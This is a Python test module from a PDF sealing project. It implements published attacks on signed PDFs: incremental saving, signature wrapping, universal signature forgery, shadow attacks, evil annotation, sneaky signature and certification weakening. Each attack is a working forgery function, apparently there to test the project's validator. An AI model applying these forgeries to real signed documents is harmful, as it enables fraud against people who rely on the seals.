"""Attacks on signed PDFs as the literature names them, carried out on sealed originals.

    1 Trillion Dollar Refund (Mladenov et al., CCS 2019): incremental saving, signature wrapping,
      universal signature forgery
    Shadow Attacks (Mainka et al., NDSS 2021): hide, replace, hide-and-replace
    Breaking the Specification (Rohlmann et al., S&P 2021): evil annotation, sneaky signature

Each function takes the bytes of a sealed original, and gives those of the forgery.
"""

from __future__ import annotations

import asyncio
import io
import re
from functools import cache

import pikepdf
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.sign import fields, signers
from pyhanko.sign.signers.pdf_signer import PdfSignatureMetadata, PdfSigner

from eakte.seal.writer import QuietWriter
from tests.unit.seal.attacks import update
from tests.unit.seal.making import pdfa

EVIL = b"1 0 0 rg 0 0 595 842 re f\n"
_SIGNED = re.compile(rb"/Contents <([0-9A-F]+)>\n/ByteRange \[0 (\d+) (\d+) (\d+)\]( +)")


# --- documents that are prepared before they are sealed -------------------------------------------


def _plain(pdf: pikepdf.Pdf) -> bytes:
    """Without object streams, so that offsets can be pointed at."""
    target = io.BytesIO()
    pdf.save(target, object_stream_mode=pikepdf.ObjectStreamMode.disable, static_id=True)
    return target.getvalue()


@cache
def covered() -> bytes:
    """A page whose content is covered by a form that can be taken away."""
    with pikepdf.open(io.BytesIO(pdfa())) as pdf:
        cover = pdf.make_stream(b"1 1 1 rg 0 0 595 842 re f")
        cover.Type, cover.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
        cover.BBox = [0, 0, 595, 842]
        page = pdf.pages[0]
        page.Resources = pikepdf.Dictionary(
            XObject=pikepdf.Dictionary(Cover=pdf.make_indirect(cover))
        )
        page.Contents = pdf.make_stream(page.Contents.read_bytes() + b"/Cover Do\n")
        return _plain(pdf)


@cache
def with_field() -> bytes:
    """A page with a text field whose value is not what it shows."""
    with pikepdf.open(io.BytesIO(pdfa())) as pdf:
        look = pdf.make_stream(b"/Tx BMC EMC")
        look.Type, look.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
        look.BBox = [0, 0, 200, 20]
        widget = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Widget,
            FT=pikepdf.Name.Tx,
            T="Betrag",
            V="100",
            F=4,
            Rect=[72, 700, 272, 720],
            AP=pikepdf.Dictionary(N=pdf.make_indirect(look)),
        )
        field = pdf.make_indirect(widget)
        pdf.pages[0].Annots = pikepdf.Array([field])
        pdf.Root.AcroForm = pdf.make_indirect(pikepdf.Dictionary(Fields=pikepdf.Array([field])))
        return _plain(pdf)


@cache
def with_shadow() -> bytes:
    """A file that holds its page's content twice; its table knows the harmless one."""
    with pikepdf.open(io.BytesIO(pdfa())) as pdf:
        data = _plain(pdf)
    with pikepdf.open(io.BytesIO(data)) as pdf:
        number = pdf.pages[0].Contents.objgen[0]
    place = int(re.findall(rb"startxref\n(\d+)\n", data)[-1])
    shadow = _stream(number, EVIL)
    moved = b"startxref\n%d\n" % (place + len(shadow))
    tail = data[place:].replace(b"startxref\n%d\n" % place, moved)
    return data[:place] + shadow + tail


def _stream(number: int, content: bytes) -> bytes:
    head = b"%d 0 obj\n<< /Length %d >>\nstream\n" % (number, len(content))
    return head + content + b"\nendstream\nendobj\n"


# --- what is done to them once they are sealed ----------------------------------------------------


def _look(data: bytes) -> tuple[int, bytes, int]:
    """Give the number of the first content, the trailer's entries, the last table's place."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        number = pdf.pages[0].Contents.objgen[0]
        root, size = pdf.Root.objgen[0], int(pdf.trailer.Size)
    place = int(re.findall(rb"startxref\n(\d+)\n", data)[-1])
    return number, b"/Root %d 0 R /Size %d /Prev %d" % (root, size, place), place


def _table(number: int, place: int) -> bytes:
    return b"xref\n%d 1\n%010d 00000 n \n" % (number, place)


def incremental_saving(data: bytes) -> bytes:
    number, entries, _place = _look(data)
    start = len(data)
    body = data + _stream(number, EVIL)
    table = _table(number, start) + b"trailer\n<< " + entries + b" >>\n"
    return body + table + b"startxref\n%d\n%%%%EOF\n" % len(body)


def incremental_saving_without_trailer(data: bytes) -> bytes:
    return data + _stream(_look(data)[0], EVIL) + b"%%EOF\n"


def incremental_saving_without_table(data: bytes) -> bytes:
    number, entries, _place = _look(data)
    return data + _stream(number, EVIL) + b"trailer\n<< " + entries + b" >>\n%%EOF\n"


def incremental_saving_with_copied_signature(data: bytes) -> bytes:
    """The changed body, and then a copy of the last signed revision's end."""
    forged = incremental_saving(data)
    last = list(_SIGNED.finditer(data))[-1]
    return forged + data[last.start() : last.end()] + b"\n%%EOF\n"


def hybrid_table(data: bytes) -> bytes:
    """A table for old readers that hides nothing, beside a stream for new ones that does."""
    number, entries, _place = _look(data)
    start = len(data)
    body = data + _stream(number, EVIL)
    hidden = len(body)
    row = bytes([1]) + start.to_bytes(4, "big") + b"\0\0"
    body += b"999 0 obj\n<< /Type /XRef /W [1 4 2] /Index [%d 1] " % number
    body += entries + b" /Length %d >>\nstream\n" % len(row) + row + b"\nendstream\nendobj\n"
    table = b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< " + entries
    return body + table + b" /XRefStm %d >>\nstartxref\n%d\n%%%%EOF\n" % (hidden, len(body))


def signature_wrapping(data: bytes) -> bytes:
    """Move what follows the seal's container, and put a file of the attacker's into the gap.

    Where the last line says that the table of contents stands, there is one of the attacker's now.
    It names another content, and a copy of the seal that says by its /ByteRange where the signed
    bytes have gone: since that stands in the gap, every digest fits.
    """
    found = next(_SIGNED.finditer(data))
    gap, table = found.end(1) + 1, int(re.findall(rb"startxref\n(\d+)\n", data)[-1])
    number, entries, _place = _look(data)
    more = table + (1 << 14) - gap
    start = data.rindex(b" 0 obj", 0, found.start())
    seal = int(data[data.rindex(b"\n", 0, start) + 1 : start])
    places = {int(one[1]): one.start(1) for one in re.finditer(rb"\n(\d+) 0 obj\n", data)}
    first = int(re.findall(rb"startxref\n(\d+)\n", data)[0])
    later = {key: place for key, place in places.items() if place > first}
    moved = {key: place + (more if place >= gap else 0) for key, place in later.items()}
    evil = (b"\n" + _stream(number, EVIL)).ljust(table - gap)
    entries = re.sub(rb"/Prev \d+", b"/Prev %d" % first, entries)
    moved |= {number: gap + 1, seal: 0}
    moved[seal] = table + len(_tables(moved, entries))
    copy = _copied_seal(data, found, seal, more)
    return data[:gap] + (evil + _tables(moved, entries) + copy).ljust(more) + data[gap:]


def _tables(places: dict[int, int], entries: bytes) -> bytes:
    rows = b"".join(b"%d 1\n%010d 00000 n \n" % pair for pair in sorted(places.items()))
    return b"xref\n" + rows + b"trailer\n<< " + entries + b" >>\n"


def _copied_seal(data: bytes, found: re.Match[bytes], seal: int, more: int) -> bytes:
    numbers = (int(found[2]), int(found[3]) + more, int(found[4]))
    rest = data[found.end() : data.index(b"endobj", found.end())]
    container = data[found.start() : found.end(1) + 1]
    reach = b"\n/ByteRange [0 %d %d %d]\n" % numbers
    return b"%d 0 obj\n<<\n" % seal + container + reach + rest + b"endobj\n"


def _override(data: bytes, change) -> bytes:
    """Write the seal's dictionary anew behind the file, with a change in it."""

    def rewrite(writer):
        field = writer.root["/AcroForm"]["/Fields"][0].get_object()
        value = field["/V"]
        copy = generic.DictionaryObject({key: value.raw_get(key) for key in value})
        change(copy)
        field[pdf_name("/V")] = writer.add_object(copy)
        writer.update_container(field)

    return update(data, rewrite)


def _without(key):
    return lambda data: _override(data, lambda value: value.pop(pdf_name(key)))


def _with(key, other):
    return lambda data: _override(data, lambda value: value.update({pdf_name(key): other}))


def _numbers(*values):
    return generic.ArrayObject(map(generic.NumberObject, values))


FORGERIES = {
    "no Contents": _without("/Contents"),
    "Contents null": _with("/Contents", generic.NullObject()),
    "Contents empty": _with("/Contents", generic.ByteStringObject(b"")),
    "Contents zero": _with("/Contents", generic.ByteStringObject(b"\0")),
    "no ByteRange": _without("/ByteRange"),
    "ByteRange null": _with("/ByteRange", generic.NullObject()),
    "ByteRange empty": _with("/ByteRange", generic.ArrayObject()),
    "ByteRange of nothing": _with("/ByteRange", _numbers(0, 0, 0, 0)),
    "ByteRange negative": _with("/ByteRange", _numbers(0, -1, -1, -1)),
    "no SubFilter": _without("/SubFilter"),
    "no Type": _without("/Type"),
}
"""Universal signature forgery: who cannot compute may not say that it fits."""


def shadow_hide(data: bytes) -> bytes:
    """Of `covered`: what covers the content becomes empty."""

    def uncover(writer):
        cover = writer.root["/Pages"]["/Kids"][0]["/Resources"]["/XObject"]["/Cover"]
        cover._data, cover._encoded_data = b"", None
        writer.update_container(cover)

    return update(data, uncover)


def shadow_replace(data: bytes) -> bytes:
    """Of `with_field`: another value, and a look that fits it."""

    def replace(writer):
        field = writer.root["/AcroForm"]["/Fields"][0].get_object()
        field[pdf_name("/V")] = generic.pdf_string("100000")
        writer.update_container(field)

    return update(data, replace)


def shadow_hide_and_replace(data: bytes) -> bytes:
    """Of `with_shadow`: no object is added, only a table that points to the other content."""
    number, entries, _place = _look(data)
    place = data.index(b"%d 0 obj\n<< /Length %d >>\nstream\n%s" % (number, len(EVIL), EVIL))
    table = _table(number, place) + b"trailer\n<< " + entries + b" >>\n"
    return data + table + b"startxref\n%d\n%%%%EOF\n" % len(data)


def evil_annotation(data: bytes) -> bytes:
    """A note that covers the page, as a certified file with P=3 would allow."""

    def annotate(writer):
        page = writer.root["/Pages"]["/Kids"][0].get_object()
        look = generic.StreamObject(
            {
                pdf_name("/Type"): pdf_name("/XObject"),
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): _numbers(0, 0, 595, 842),
            },
            stream_data=EVIL,
        )
        note = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/FreeText"),
                pdf_name("/Rect"): _numbers(0, 0, 595, 842),
                pdf_name("/F"): generic.NumberObject(4),
                pdf_name("/AP"): generic.DictionaryObject(
                    {pdf_name("/N"): writer.add_object(look)}
                ),
            }
        )
        page["/Annots"].append(writer.add_object(note))
        writer.update_container(page)

    return update(data, annotate)


class _Sneak(PdfSigner):
    """Signs what nobody may change."""

    def _enforce_certification_constraints(self, reader):
        """Do not ask."""


def sneaky_signature(data: bytes, trust_folder) -> bytes:
    """A second signature, true and visible, whose look covers the page."""
    keys = trust_folder / "keys"
    pin = (keys / "seal.pin").read_bytes().strip()
    signer = signers.SimpleSigner.load_pkcs12(str(keys / "seal.p12"), passphrase=pin)
    assert signer is not None
    box = fields.SigFieldSpec("Zweite", on_page=0, box=(0, 0, 595, 842))
    settings = PdfSignatureMetadata(field_name="Zweite", subfilter=fields.SigSeedSubFilter.PADES)
    output = io.BytesIO()
    asyncio.run(
        _Sneak(settings, signer, new_field_spec=box).async_sign_pdf(
            QuietWriter(io.BytesIO(data)), output=output, existing_fields_only=False
        )
    )
    return output.getvalue()


def certification_weakened(data: bytes) -> bytes:
    """The same seal, but its permission says that everything may change."""

    def weaken(value):
        reference = value["/Reference"][0]
        reference["/TransformParams"][pdf_name("/P")] = generic.NumberObject(3)

    return _override(data, weaken)


def certification_weakened_in_place(data: bytes) -> bytes:
    return data.replace(b"/P 1\n", b"/P 3\n", 1)


def uncertified(data: bytes) -> bytes:
    """The reference that makes the seal a certification is gone."""
    return _override(data, lambda value: value.pop(pdf_name("/Reference")))
